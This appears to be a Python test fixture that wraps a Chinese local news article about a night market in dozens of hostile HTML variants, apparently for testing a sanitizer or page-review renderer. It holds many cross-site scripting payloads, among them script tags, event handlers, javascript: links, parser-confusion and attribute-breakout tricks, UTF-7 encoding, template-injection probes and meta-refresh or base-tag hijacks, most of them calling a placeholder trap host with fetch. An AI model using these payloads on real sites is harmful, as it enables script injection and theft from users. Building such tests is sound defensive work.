"""Pages that try to act on whoever reviews them: each does what it can to run, to load, to leave or to be seen elsewhere.

TRAP is the address of a server that nobody must ask; a script that ran would write `top.hit`.
"""

ARTICLE = """<html><head><meta charset="utf-8"><title>漫川关镇古街夜市开张_山阳新闻网</title>{head}</head><body>
<h1>漫川关镇古街夜市开张</h1><div class="info">2023-06-12 15:27 来源：山阳新闻网 作者：岑远山</div>
<div id="text">
<p>6月12日傍晚，山阳县漫川关镇古街的灯一盏一盏亮起来，二十多个摊位沿着河边摆开，游客陆续走进来。</p>
{body}
<p>镇上的人说，夜市每周五到周日开放，摊位费全免，卖的多是本地的豆腐、核桃和手工挂面，来的人一天比一天多。</p>
<p>（责编：庾岭梅）</p></div></body></html>"""

HIT = "top.hit=1;alert(1);fetch('TRAP/hit')"

IN_THE_BODY = {
    "a script": f"<script>{HIT}</script><script src='TRAP/a.js'></script><script type=module src='TRAP/m.js'></script>",
    "handlers": f"<p onclick=\"{HIT}\" onmouseover=\"{HIT}\" OnFocus=\"{HIT}\" tabindex=0>按这里</p><img src=x onerror=\"{HIT}\"><body onload=\"{HIT}\"><details open ontoggle=\"{HIT}\"><summary>看</summary></details><marquee onstart=\"{HIT}\">走</marquee>",
    "addresses that are scripts": f"<a href=\"javascript:{HIT}\">甲</a><a href=\"JaVa&#9;ScRiPt:{HIT}\">乙</a><a href=\"data:text/html,<script>{HIT}</script>\">丙</a><a href=\"vbscript:x\">丁</a>",
    "links that leave": "<a href='TRAP/go' target=_top ping='TRAP/ping'>去</a><a href='TRAP/new' target=_blank>新</a><map name=m><area href='TRAP/area' shape=default></map>",
    "forms": f"<form action='TRAP/form' id=f><input name=q autofocus onfocus=\"{HIT}\"><button formaction=\"javascript:{HIT}\">发</button><input type=image src='TRAP/i.png'><select onchange=\"{HIT}\"><option>一</select><textarea>乙</textarea></form><isindex action='TRAP/x'>",
    "pictures and media": "<img src='TRAP/a.png' srcset='TRAP/b.png 2x' loading=eager><picture><source srcset='TRAP/c.png'><img src='TRAP/d.png'></picture><video src='TRAP/v.mp4' poster='TRAP/p.png' autoplay></video><audio src='TRAP/a.mp3' autoplay></audio><table background='TRAP/t.png'><tr><td background='TRAP/u.png'>表</td></tr></table>",
    "frames and plug-ins": f"<iframe src='TRAP/f.html'></iframe><iframe srcdoc=\"<script>{HIT}</script>\"></iframe><object data='TRAP/o.swf'><param name=movie value='TRAP/m.swf'><p>替</p></object><embed src='TRAP/e.swf'><applet code='TRAP/a.class'></applet><frameset><frame src='TRAP/fr.html'></frameset><portal src='TRAP/portal'></portal>",
    "style sheets": "<style>@import url(TRAP/a.css); body{background:url(TRAP/b.png)} @font-face{font-family:x;src:url(TRAP/x.woff)} mark{display:none} p{font-family:x}</style><link rel=stylesheet href='TRAP/c.css'>",
    "styles": "<p style=\"background:url('TRAP/a.png');color:red\">红</p><p style='list-style:url(TRAP/b.png);behavior:url(TRAP/c.htc);width:expression(alert(1))'>式</p><div style='position:fixed;inset:0;z-index:99999;background:#fff'>盖住一切</div><p style='color:red;}</style><script>alert(1)</script>'>尾</p>",
    "drawings with scripts": f"<svg onload=\"{HIT}\"><script>{HIT}</script><a xlink:href=\"javascript:{HIT}\"><text y=20>图</text></a><use href='TRAP/u.svg#x'/><image href='TRAP/i.png'/><foreignObject><img src=x onerror=\"{HIT}\"></foreignObject></svg>",
    "an end of the frame": f"\"></iframe><script>{HIT}</script><iframe srcdoc=\"&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{HIT}&lt;/script&gt; &amp;quot;&amp;gt; '></iframe><img src=x onerror={HIT}>",
    "an end of the document": f"</p></div></mark></body></html><script>{HIT}</script><body><title>换了</title><base href='TRAP/'><meta http-equiv=refresh content='0;url=TRAP/r'>",
    "what parsers read in two ways": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={HIT}&gt;\"></table></mtext></math><noscript><p title=\"</noscript><img src=x onerror={HIT}>\"></noscript><svg></p><style><a id=\"</style><img src=1 onerror={HIT}>\">",
    "what ends elements of text": f"<textarea></textarea><img src=x onerror={HIT}></textarea><xmp><img src=x onerror={HIT}></xmp><noembed><img src=x onerror={HIT}></noembed><noframes><script>{HIT}</script></noframes><![CDATA[<script>{HIT}</script>]]><!-- --!><img src=x onerror={HIT}> -->",
    "shadows": f"<div><template shadowrootmode=open><script>{HIT}</script><img src='TRAP/s.png'></template></div><template><img src='TRAP/t.png'></template><slot name=x></slot>",
    "names of the browser's own": "<img name=body><form name=document><input name=cookie></form><a id=mark-title name=mark-body>假</a><mark class='title' id=mark-title data-label='标题 title'>假的标题</mark><div class='badge drop' data-label='假'>假</div>",
    "attributes that end too early": f"<p title='\" onmouseover=\"{HIT}\" x=\"'>题</p><td colspan='2\" onclick=\"{HIT}'>格</td><p lang='zh\"><script>{HIT}</script>'>语</p><a href='\"><script>{HIT}</script>'>链</a><img alt='\"><script>{HIT}</script>'>",
    "words of a template": "<p>{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}#{7*7}，这些字原样留在页面上，不会被当成模板来执行。</p>",
    "characters that nobody sees": "<p>\u202e倒着写的\u202c\u2066字\u2069\ufeff\u0000\ufffe\ud800留在这里，读者看见的次序不会影响框外的文字，一点也不会。</p><plaintext>",
    "elements nobody knows": f"<x-evil onclick=\"{HIT}\" style='background:url(TRAP/x.png)'>甲</x-evil><image src='TRAP/i.png' onerror=\"{HIT}\"><keygen autofocus onfocus=\"{HIT}\"><dialog open><form method=dialog>乙</form></dialog><a popovertarget=p>丙</a><div popover id=p>丁</div><fencedframe></fencedframe>",
}  # fmt: skip

IN_THE_HEAD = {
    "what the head can do": f"<base href='TRAP/' target=_top><meta http-equiv=refresh content='0;url=TRAP/r'><meta http-equiv=Content-Security-Policy content='default-src *'><meta http-equiv=set-cookie content=a><link rel=stylesheet href='TRAP/a.css'><link rel=dns-prefetch href='TRAP'><link rel=preload as=image href='TRAP/p.png'><link rel=icon href='TRAP/i.ico'><link rel=manifest href='TRAP/m.json'><script src='TRAP/h.js'></script><style>@import 'TRAP/b.css';</style><script>{HIT}</script>",
    "what is told to machines": f"<meta name=author content='\"><script>{HIT}</script>'><meta property=article:published_time content='2023-06-12T15:27:00+08:00\"><img src=x onerror={HIT}>'><script type=application/ld+json>{{\"@type\":\"NewsArticle\",\"headline\":\"</iframe><script>{HIT}<\\/script>\",\"author\":{{\"name\":\"<img src=x onerror={HIT}>\"}}}}</script>",
}  # fmt: skip

IN_THE_VALUES = ARTICLE.replace(
    "<h1>漫川关镇古街夜市开张</h1>",
    "<h1>漫川关镇&lt;/iframe&gt;&lt;script&gt;top.hit=1&lt;/script&gt;\"'开张</h1>",
).replace("岑远山", "岑远山&lt;img src=x onerror=top.hit=1&gt;")

UTF_7 = ARTICLE.replace("utf-8", "utf-7").replace(
    "{body}", "<p>+ADw-script+AD4-top.hit=1+ADw-/script+AD4-</p>"
)


def hostile_pages(trap: str) -> dict[str, bytes]:
    """Return each page by what it tries; `trap` is the address that it tells what it got away with."""
    pages = {name: ARTICLE.format(head="", body=body) for name, body in IN_THE_BODY.items()}
    pages |= {name: ARTICLE.format(head=head, body="") for name, head in IN_THE_HEAD.items()}
    pages["all of it at once"] = ARTICLE.format(
        head="".join(IN_THE_HEAD.values()), body="".join(IN_THE_BODY.values())
    )
    pages["values that are markup"] = IN_THE_VALUES.format(head="", body="")
    pages["another charset"] = UTF_7.format(head="")
    pages["a frame around nothing"] = f"<frameset onload=\"{HIT}\"><frame src='TRAP/f'></frameset><p>山阳</p>"
    return {name: page.replace("TRAP", trap).encode("utf-8", "surrogatepass") for name, page in pages.items()}
